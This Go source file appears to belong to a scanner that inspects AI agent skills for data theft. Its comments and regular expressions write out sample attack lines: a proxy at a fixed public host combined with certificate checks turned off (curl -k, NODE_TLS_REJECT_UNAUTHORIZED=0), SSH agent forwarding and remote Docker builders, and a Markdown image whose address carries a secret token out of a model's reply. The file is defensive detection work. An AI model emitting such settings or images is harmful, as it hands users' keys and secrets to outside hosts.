package scan

import (
	"fmt"
	"regexp"
	"strings"
)

// A fork can read every request the user's tools make, keys and all,
// without sending anything itself: it routes them through a proxy it runs
// (HTTPS_PROXY=http://edge-trace.cdn-diag.net:3128) and turns off the
// checks of certificates that would catch the proxy re-signing them
// (curl -k, --proxy-insecure, NODE_TLS_REJECT_UNAUTHORIZED=0). A proxy the
// user runs is a setting or a placeholder (http://proxy:port,
// proxy.example.com); a commercial proxy the user pays for leaves the
// checks on.

var (
	// proxySettingRE is a proxy set for the programs a shell starts, and
	// its address.
	proxySettingRE = regexp.MustCompile(`(?i)\b(?:https?_proxy|all_proxy)\s*=\s*["']?((?:https?|socks5h?)://[^\s"'` + "`" + `]+)`)
	// tlsOffRE turns off the checks of certificates.
	tlsOffRE = regexp.MustCompile(`(?i)(?:^|[\s"'=])(?:-k|--insecure|--proxy-insecure|--no-check-certificate)(?:\s|["']|$)|\bNODE_TLS_REJECT_UNAUTHORIZED\s*=\s*["']?0|\bPYTHONHTTPSVERIFY\s*=\s*["']?0|\bGIT_SSL_NO_VERIFY\s*=\s*["']?(?:1|true)|\bverify\s*=\s*False\b|\bhttp\.sslVerify\s+false\b|\bstrict-ssl\s+false\b`)
)

// interceptedTraffic adds, to the file that sets it, a proxy at a fixed
// public host that code of the skill sets while it also turns off the
// checks of certificates.
func interceptedTraffic(r *skillReading, scanned []*findings) {
	// The proxy is looked for first: few skills set one, and the checks
	// of certificates are read only in those that do.
	for i, raw := range r.texts {
		if !strings.Contains(raw, "_proxy") && !strings.Contains(raw, "_PROXY") {
			continue
		}
		for _, u := range r.unitsOf(i) {
			if u.prose {
				continue
			}
			for _, m := range proxySettingRE.FindAllStringSubmatchIndex(u.text, 8) {
				h := urlHostRE.FindStringSubmatch(u.text[m[2]:m[3]])
				if h == nil || ownHost(strings.ToLower(h[1]), nil) || !strings.Contains(h[1], ".") {
					continue
				}
				if tlsOff(r) {
					scanned[i].add(RuleExfiltrate, SeverityWithhold, u.start+m[0], u.start+m[1],
						"traffic routed through "+strings.ToLower(h[1])+" with the checks of certificates off, so whoever runs it reads every request, keys included")
				}
				return
			}
		}
	}
}

// tlsOff reports whether code of the skill turns off the checks of
// certificates.
func tlsOff(r *skillReading) bool {
	for i := range r.texts {
		for _, u := range r.unitsOf(i) {
			if !u.prose && tlsOffRE.MatchString(u.text) {
				return true
			}
		}
	}
	return false
}

// The agent of SSH signs for the user's keys for whatever server it is
// forwarded to, for as long as the connection lasts (sleep 40): a skill
// that forwards it (ssh -A, ForwardAgent yes) to a fixed host of its own
// lends that host the user's keys. A bastion the user runs is a name of
// the user's configuration or a placeholder.

// agentForwardRE is a connection of SSH that forwards the agent, and the
// host it goes to.
var agentForwardRE = regexp.MustCompile(`\bssh\s+(?:[^\n|;&]*?\s)?(?:-A\b|-o\s*ForwardAgent[= ]yes\b)[^\n|;&]*?\s[\w.-]+@([a-z0-9][\w-]*(?:\.[\w-]+)+)\b`)

// A build run on another's machine hands it the sources, the build's
// secrets (docker buildx build --secret) and whatever it pushes: a skill
// that points Docker at a fixed builder (--driver remote
// tcp://pool.example, DOCKER_HOST=tcp://…) sends them there.

// dockerRemoteRE is Docker pointed at a machine to build or run on, and
// its host.
var dockerRemoteRE = regexp.MustCompile(`(?:--driver\s+remote\s+|DOCKER_HOST\s*=\s*["']?|\bhost=)(?:tcp|ssh)://(?:[\w.-]+@)?([a-z0-9][\w-]*(?:\.[\w-]+)+)`)

// forwardedAgents adds, to each file of a skill, code that forwards the
// user's agent of SSH, or Docker's builds, to a fixed public host.
func forwardedAgents(r *skillReading, scanned []*findings) {
	for i, raw := range r.texts {
		agent := strings.Contains(raw, "ssh") && (strings.Contains(raw, "-A") || strings.Contains(raw, "ForwardAgent"))
		docker := strings.Contains(raw, "tcp://") || strings.Contains(raw, "ssh://")
		if !agent && !docker {
			continue
		}
		for _, u := range r.unitsOf(i) {
			if u.prose {
				continue
			}
			for _, rd := range []struct {
				re   *regexp.Regexp
				on   bool
				what string
			}{
				{agentForwardRE, agent, "the user's agent of SSH forwarded to %s, which can sign with the user's keys while connected"},
				{dockerRemoteRE, docker, "Docker's builds sent to %s, a machine the skill chooses, with the sources and the build's secrets"},
			} {
				if !rd.on {
					continue
				}
				for _, m := range rd.re.FindAllStringSubmatchIndex(u.text, 8) {
					host := strings.ToLower(u.text[m[2]:m[3]])
					if ownHost(host, nil) || commentLine(u.text[strings.LastIndexByte(u.text[:m[0]], '\n')+1:m[0]]) {
						continue
					}
					scanned[i].add(RuleExfiltrate, SeverityWithhold, u.start+m[0], u.start+m[1], fmt.Sprintf(rd.what, host))
					return
				}
			}
		}
	}
}

// An image the model writes into its reply is fetched by the user's
// client as soon as it is shown: a skill that has the model put a
// secret into an image's address (![status](https://badge.example/b.svg?t=<TOKEN>))
// sends the secret to the image's host with no request of its own.

// imageAddrRE is an image of Markdown or HTML, and its address.
var imageAddrRE = regexp.MustCompile(`!\[[^\]\n]*\]\(\s*(https?://[^\s)]+)|<img\b[^>\n]*\bsrc\s*=\s*["'](https?://[^"'\s]+)`)

// slotNameRE is a value to fill in an address: <NAME>, {NAME}, {{NAME}},
// $NAME, ${NAME}.
var slotNameRE = regexp.MustCompile(`<([A-Za-z_][\w]*)>|\{\{?\s*([A-Za-z_]\w*)\s*\}?\}|\$\{?([A-Za-z_]\w*)`)

// secretImages adds, to each file of a skill, an image whose address
// carries a secret to a host that is not the user's.
func secretImages(r *skillReading, scanned []*findings) {
	for i, raw := range r.texts {
		if !strings.Contains(raw, "![") && !strings.Contains(raw, "<img") {
			continue
		}
		for _, m := range imageAddrRE.FindAllStringSubmatchIndex(raw, 64) {
			a, b := m[2], m[3]
			if a < 0 {
				a, b = m[4], m[5]
			}
			addr := raw[a:b]
			h := urlHostRE.FindStringSubmatch(addr)
			if h == nil || ownHost(strings.ToLower(h[1]), nil) {
				continue
			}
			for _, s := range slotNameRE.FindAllStringSubmatch(addr, 8) {
				name := s[1] + s[2] + s[3]
				if secretName(strings.ToUpper(name)) && !publicNameRE.MatchString(strings.ToUpper(name)) || slotFilledWithSecrets(raw[b:min(len(raw), b+slotWindow)], s[0]) {
					scanned[i].add(RuleExfiltrate, SeverityWithhold, a, b,
						"an image whose address carries "+name+" to "+strings.ToLower(h[1])+": showing it sends the secret there")
					return
				}
			}
		}
	}
}

// slotWindow is how far after an image its slots' definitions are looked
// for.
const slotWindow = 600

// slotFilledWithSecrets reports whether text, which follows an image,
// says its slot is filled with a file of secrets ("where <CTX> is the
// base64url encoding of the contents of terraform.tfvars").
func slotFilledWithSecrets(text, slot string) bool {
	at := strings.Index(text, slot)
	if at < 0 {
		return false
	}
	def := text[at+len(slot):]
	if end := strings.Index(def, ". "); end >= 0 {
		def = def[:end]
	}
	m := slotContentsRE.FindStringIndex(def)
	return m != nil && secretFileRE.MatchString(strings.ReplaceAll(def[m[1]:], "`", " "))
}

// slotContentsRE says what a slot holds: the contents of what follows.
var slotContentsRE = regexp.MustCompile(`(?i)^[^.\n]{0,40}?\b(?:is|are|holds?|contains?|=)\b[^.]{0,120}?\b(?:contents?|values?|text)\s+of\b`)
